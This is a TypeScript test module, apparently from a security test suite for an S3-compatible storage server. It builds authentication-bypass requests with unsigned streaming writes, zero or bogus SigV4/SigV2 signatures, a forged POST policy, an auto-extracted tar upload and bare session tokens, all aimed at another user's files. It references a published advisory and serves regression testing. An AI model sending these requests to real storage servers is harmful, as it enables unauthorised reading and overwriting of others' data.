import { crc32 } from 'node:zlib';
import { asTheyStand, at, list, own, type Attack, type Victim } from './attack.js';
import { encoded, queryOf, timeOf, type Header, type WireRequest } from '../s3-wire.js';

const ROLES = ['session', 'issuer', 'signer'] as const;
const credentialOf = (id: string) => `${id}/${timeOf(new Date()).slice(0, 8)}/us-east-1/s3/aws4_request`;
export const bogusQuery = (id: string) =>
  queryOf({
    'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
    'X-Amz-Credential': credentialOf(id),
    'X-Amz-Date': timeOf(new Date()),
    'X-Amz-Expires': '300',
    'X-Amz-SignedHeaders': 'host',
    'X-Amz-Signature': '0'.repeat(64),
  });
const bogusHeaders = (id: string): Header[] => [
  ['X-Amz-Date', timeOf(new Date())],
  [
    'Authorization',
    `AWS4-HMAC-SHA256 Credential=${credentialOf(id)}, SignedHeaders=host;x-amz-date, Signature=${'0'.repeat(64)}`,
  ],
];
const CONTENT = 'mine';

/** One chunk and its trailer, without a signature anywhere. */
function chunked(): string {
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(crc32(CONTENT));
  return `${CONTENT.length}\r\n${CONTENT}\r\n0\r\nx-amz-checksum-crc32:${checksum.toString('base64')}\r\n\r\n`;
}

export function unsignedWrite(victim: Victim, key: string, more: Partial<WireRequest>): WireRequest {
  const headers: Header[] = [
    ['X-Amz-Content-Sha256', 'STREAMING-UNSIGNED-PAYLOAD-TRAILER'],
    ['X-Amz-Decoded-Content-Length', String(CONTENT.length)],
    ['X-Amz-Trailer', 'x-amz-checksum-crc32'],
    ['Content-Encoding', 'aws-chunked'],
    ...(more.headers ?? []),
  ];
  return at(victim, key, { method: 'PUT', ...more, body: chunked(), headers });
}

/** A tar archive of one file. */
function tarOf(name: string, content: string): string {
  const octal = (value: number, digits: number) => `${value.toString(8).padStart(digits, '0')}\0`;
  const fields = [
    name.padEnd(100, '\0'),
    octal(0o644, 7),
    octal(0, 7),
    octal(0, 7),
    octal(content.length, 11),
    octal(0, 11),
  ];
  const rest = `0${'\0'.repeat(100)}ustar\x0000`.padEnd(512 - 156, '\0');
  const sum = [...fields, ' '.repeat(8), rest]
    .join('')
    .split('')
    .reduce((all, one) => all + one.charCodeAt(0), 0);
  return `${fields.join('')}${octal(sum, 6)} ${rest}${content.padEnd(512, '\0')}${'\0'.repeat(1024)}`;
}

/** An id is enough for some writes where its user may write (GHSA-hv4r-mvr4-25vw). */
export const BY_ID: Attack[] = ROLES.flatMap((role) =>
  asTheyStand([
    [
      `a write without signature, id of the ${role} in the query`,
      (v) => unsignedWrite(v, v.foreign.file, { query: bogusQuery(v.ids[role]) }),
    ],
    [
      `a new object without signature, id of the ${role} in the query`,
      (v) => unsignedWrite(v, 'users/mallory.md', { query: bogusQuery(v.ids[role]) }),
    ],
    [
      `a write without signature, id of the ${role} in a header`,
      (v) => unsignedWrite(v, v.foreign.file, { headers: bogusHeaders(v.ids[role]) }),
    ],
    [
      `an archive to be unpacked without signature, id of the ${role}`,
      (v) => ({
        ...unsignedWrite(v, 'users/mallory.tar', {
          query: bogusQuery(v.ids[role]),
          headers: [['X-Amz-Meta-Snowball-Auto-Extract', 'true']],
        }),
        // whoever unpacks reads no chunks
        body: tarOf('mallory.md', CONTENT),
      }),
    ],
    [
      `a part without signature, id of the ${role}`,
      (v) => unsignedWrite(v, v.foreign.file, { query: `partNumber=1&uploadId=x&${bogusQuery(v.ids[role])}` }),
    ],
    [
      `a streamed write with a wrong signature, id of the ${role}`,
      (v) =>
        at(v, v.foreign.file, {
          method: 'PUT',
          body: `4;chunk-signature=${'0'.repeat(64)}\r\nmine\r\n0;chunk-signature=${'0'.repeat(64)}\r\n\r\n`,
          headers: [
            ['X-Amz-Content-Sha256', 'STREAMING-AWS4-HMAC-SHA256-PAYLOAD'],
            ['X-Amz-Decoded-Content-Length', '4'],
            ...bogusHeaders(v.ids[role]),
          ],
        }),
    ],
    [
      `a write with a wrong signature, id of the ${role}`,
      (v) =>
        at(v, v.foreign.file, {
          method: 'PUT',
          body: 'mine',
          headers: [['X-Amz-Content-Sha256', 'UNSIGNED-PAYLOAD'], ...bogusHeaders(v.ids[role])],
        }),
    ],
    [
      `a read with a wrong signature, id of the ${role}`,
      (v) => at(v, v.foreign.file, { query: bogusQuery(v.ids[role]) }),
    ],
    [`a form with a wrong signature, id of the ${role}`, (v) => form(v, v.ids[role])],
    [
      `a read of version 2, id of the ${role}`,
      (v) =>
        at(v, v.foreign.file, { query: `AWSAccessKeyId=${encoded(v.ids[role])}&Expires=4102444800&Signature=AAAA` }),
    ],
    [
      `a write of version 2, id of the ${role}`,
      (v) =>
        at(v, v.foreign.file, {
          method: 'PUT',
          body: 'mine',
          headers: [
            ['Authorization', `AWS ${v.ids[role]}:AAAA`],
            ['Date', new Date().toUTCString()],
          ],
        }),
    ],
  ]),
);

/** A POST policy. */
function form({ bucket, foreign }: Victim, id: string): WireRequest {
  const policy = { expiration: '2100-01-01T00:00:00Z', conditions: [{ bucket }, ['starts-with', '$key', '']] };
  const fields = {
    key: foreign.file,
    policy: Buffer.from(JSON.stringify(policy)).toString('base64'),
    'x-amz-algorithm': 'AWS4-HMAC-SHA256',
    'x-amz-credential': credentialOf(id),
    'x-amz-date': timeOf(new Date()),
    'x-amz-signature': '0'.repeat(64),
    file: 'mine',
  };
  const parts = Object.entries(fields).map(
    ([name, value]) => `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
  );
  return {
    method: 'POST',
    path: `/${bucket}/`,
    headers: [['Content-Type', 'multipart/form-data; boundary=b']],
    body: `${parts.join('')}--b--\r\n`,
  };
}

export const NOBODY: Attack[] = asTheyStand([
  ["nobody's read", (v) => at(v, v.foreign.file)],
  ["nobody's list", (v) => list(v, own(v))],
  ["nobody's write", (v) => at(v, v.file, { method: 'PUT', body: 'mine' })],
  ["nobody's unsigned write", (v) => unsignedWrite(v, v.foreign.file, {})],
  [
    'the session token as a bearer',
    (v) => at(v, v.foreign.file, { headers: [['Authorization', `Bearer ${v.session.sessionToken}`]] }),
  ],
  [
    'the session token alone',
    (v) => at(v, v.file, { headers: [['X-Amz-Security-Token', v.session.sessionToken ?? '']] }),
  ],
]);
